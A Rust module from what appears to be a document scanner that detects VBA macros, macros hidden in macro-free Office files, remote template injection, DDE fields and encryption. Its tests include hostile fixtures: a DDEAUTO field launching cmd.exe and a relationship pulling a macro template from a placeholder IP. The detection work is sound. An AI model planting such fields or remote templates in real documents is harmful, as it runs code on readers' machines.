//! Office documents: VBA macros in OLE compound files (`.doc`, `.xls`, `.ppt`) and in OOXML
//! packages (`vbaProject.bin`, macro-enabled content types, also when the name says `.docx`),
//! references to templates, frames and objects fetched from outside (template injection), DDE
//! fields, encrypted documents, and the hyperlinks a document carries.

use std::io::{Cursor, Read};

/// What one document holds.
#[derive(Debug, Default)]
pub struct Report {
    /// Where the macros are, if there are any.
    pub macros: Option<String>,
    /// The macros are in a file that says it has none (`.docx`, a macro-free content type).
    pub macros_hidden: bool,
    /// An external template, frame or object the document fetches when opened.
    pub external_template: Option<String>,
    /// A DDE field (runs a command when the document updates its fields).
    pub dde: Option<String>,
    /// Password-protected: its content cannot be scanned.
    pub encrypted: bool,
    pub links: Vec<String>,
}

/// Package parts read per document, and bytes per part: bounds against hostile packages (the
/// archive walk has already bounded the package itself).
const MAX_PARTS: usize = 500;
const MAX_PART_BYTES: u64 = 16 * 1024 * 1024;
const MAX_NAMES: usize = 100_000;

/// Storage and stream names that only a VBA project has.
const VBA_NAMES: &[&str] = &["VBA", "_VBA_PROJECT_CUR", "_VBA_PROJECT", "Macros"];

/// An OLE compound file (`.doc`, `.xls`, `.ppt`, and `vbaProject.bin` itself).
pub fn ole(bytes: &[u8]) -> Report {
    let mut report = Report::default();
    let Ok(compound) = cfb::CompoundFile::open(Cursor::new(bytes)) else {
        return report;
    };
    for entry in compound.walk().take(10_000) {
        let name = entry.name();
        if report.macros.is_none() && VBA_NAMES.iter().any(|vba| name.eq_ignore_ascii_case(vba)) {
            report.macros = Some(format!("VBA project ({})", entry.path().display()));
        }
        // An encrypted OOXML document travels inside an OLE file with these two streams.
        if name == "EncryptedPackage" || name == "EncryptionInfo" {
            report.encrypted = true;
        }
    }
    report
}

/// An OOXML package. `extension` and `declared` are what the file claims to be, to tell
/// macro-enabled documents from macro-free ones carrying macros.
/// `allowance` is what the message may still inflate; the parts read are charged to it.
pub fn ooxml(bytes: &[u8], extension: Option<&str>, declared: Option<&str>, allowance: &mut u64) -> Report {
    let mut report = Report::default();
    let Ok(mut archive) = zip::ZipArchive::new(Cursor::new(bytes)) else {
        return report;
    };
    // Every name (the central directory is as long as the file allows); only the reads are bounded.
    let names: Vec<String> = archive
        .file_names()
        .take(MAX_NAMES)
        .filter_map(|name| name.ok().map(|name| name.into_owned()))
        .collect();
    let mut reads = 0usize;
    // A part larger than the bound is read up to it (padding must not hide what comes first).
    let mut read = |archive: &mut zip::ZipArchive<Cursor<&[u8]>>, name: &str| -> Option<String> {
        reads += 1;
        if reads > MAX_PARTS || *allowance == 0 {
            return None;
        }
        let entry = archive.by_name(name).ok()?;
        let mut text = Vec::new();
        let _ = entry.take(MAX_PART_BYTES.min(*allowance)).read_to_end(&mut text);
        *allowance = allowance.saturating_sub(text.len() as u64);
        Some(String::from_utf8_lossy(&text).into_owned())
    };

    if let Some(project) = names
        .iter()
        .find(|n| n.to_ascii_lowercase().ends_with("vbaproject.bin"))
    {
        report.macros = Some(format!("VBA project ({project})"));
    } else if let Some(types) = read(&mut archive, "[Content_Types].xml")
        && types.to_ascii_lowercase().contains("macroenabled")
    {
        report.macros = Some("macro-enabled content type".into());
    }
    if report.macros.is_some() {
        let says_macro_free = extension
            .is_some_and(|e| matches!(e, "docx" | "xlsx" | "pptx" | "dotx" | "ppsx" | "xltx"))
            || declared.is_some_and(|d| d.starts_with("application/vnd.openxmlformats-officedocument."));
        report.macros_hidden = says_macro_free;
    }

    for name in names.iter().filter(|n| n.ends_with(".rels")) {
        let Some(rels) = read(&mut archive, name) else { continue };
        for relationship in elements(&rels, "Relationship").chain(elements(&rels, "r:Relationship")) {
            let kind = attribute(relationship, "Type").unwrap_or_default();
            let target = attribute(relationship, "Target").unwrap_or_default();
            let external = attribute(relationship, "TargetMode").is_some_and(|m| m.eq_ignore_ascii_case("External"));
            if !external {
                continue;
            }
            let kind = kind.rsplit('/').next().unwrap_or_default();
            match kind {
                "hyperlink" if report.links.len() < 200 => report.links.push(unescape(target)),
                "attachedTemplate" | "frame" | "oleObject" | "subDocument" if report.external_template.is_none() => {
                    report.external_template = Some(format!("{kind} {}", unescape(target)));
                }
                _ => {}
            }
        }
    }

    for name in names.iter().filter(|n| {
        n.starts_with("word/") && n.ends_with(".xml") && !n.contains("/_rels/") || n.starts_with("xl/externalLinks/")
    }) {
        if report.dde.is_some() {
            break;
        }
        let Some(xml) = read(&mut archive, name) else { continue };
        if name.starts_with("xl/") {
            if let Some(at) = xml.find("<ddeLink") {
                report.dde = Some(format!("{name}: {}", clip(&xml[at..])));
            }
            continue;
        }
        report.dde = dde_field(&xml).map(|field| format!("{name}: {field}"));
    }
    report
}

/// A DDE field in a WordprocessingML part. A field's code may be split over many runs
/// (`<w:instrText>DDE</w:instrText>…<w:instrText>AUTO …`), so the codes are joined first.
fn dde_field(xml: &str) -> Option<String> {
    let mut codes = String::new();
    for element in elements(xml, "w:fldSimple") {
        if let Some(instruction) = attribute(element, "w:instr") {
            codes.push_str(&unescape(instruction));
            codes.push('\u{1}');
        }
    }
    let mut rest = xml;
    while let Some(at) = rest.find("<w:instrText") {
        rest = &rest[at..];
        let Some(open_end) = rest.find('>') else { break };
        let Some(close) = rest.find("</w:instrText>") else {
            break;
        };
        if close > open_end {
            codes.push_str(&unescape(&rest[open_end + 1..close]));
        }
        rest = &rest[close..];
    }
    let upper = codes.to_ascii_uppercase();
    let compact: String = upper.split_whitespace().collect::<Vec<_>>().join(" ");
    ["DDEAUTO", "DDE "]
        .iter()
        .find_map(|word| compact.find(word).map(|at| clip(&compact[at..])))
}

fn clip(text: &str) -> String {
    text.chars().take(80).collect()
}

/// The opening tags of `<name …>` elements (attributes and all), as slices of `xml`.
fn elements<'a>(xml: &'a str, name: &str) -> impl Iterator<Item = &'a str> {
    let open = format!("<{name}");
    let mut rest = xml;
    std::iter::from_fn(move || {
        loop {
            let at = rest.find(&open)?;
            let after = &rest[at + open.len()..];
            let end = after.find('>')?;
            rest = &after[end..];
            // `<Relationships` must not count as `<Relationship`.
            if after.starts_with(|c: char| c.is_whitespace() || c == '/' || c == '>') {
                return Some(&after[..end]);
            }
        }
    })
}

/// An attribute's value in an opening tag.
fn attribute<'a>(tag: &'a str, name: &str) -> Option<&'a str> {
    let mut rest = tag;
    loop {
        let at = rest.find(name)?;
        let before_ok = at == 0 || rest[..at].ends_with(|c: char| c.is_whitespace());
        let after = rest[at + name.len()..].trim_start();
        if before_ok && let Some(value) = after.strip_prefix('=') {
            let value = value.trim_start();
            let quote = value.chars().next()?;
            if quote == '"' || quote == '\'' {
                let value = &value[1..];
                return value.find(quote).map(|end| &value[..end]);
            }
        }
        rest = &rest[at + name.len()..];
    }
}

fn unescape(text: &str) -> String {
    text.replace("&quot;", "\"")
        .replace("&apos;", "'")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn dde_split_over_runs_is_found() {
        let xml = r#"<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r>"#;
        assert!(dde_field(xml).unwrap().starts_with("DDEAUTO"));
        let simple = r#"<w:fldSimple w:instr=" DDEAUTO c:\\x.exe &quot;/c&quot; "/>"#;
        assert!(dde_field(simple).is_some());
        assert!(dde_field(r#"<w:instrText> HYPERLINK "https://x.test/" </w:instrText>"#).is_none());
    }

    #[test]
    fn relationships_are_read_by_attribute() {
        let rels = r#"<Relationships xmlns="x"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://198.51.100.7/t.dotm" TargetMode="External"/></Relationships>"#;
        let found: Vec<&str> = elements(rels, "Relationship").collect();
        assert_eq!(found.len(), 1);
        assert_eq!(attribute(found[0], "Target"), Some("http://198.51.100.7/t.dotm"));
        assert_eq!(attribute(found[0], "TargetMode"), Some("External"));
        assert_eq!(attribute(found[0], "Mode"), None);
    }
}
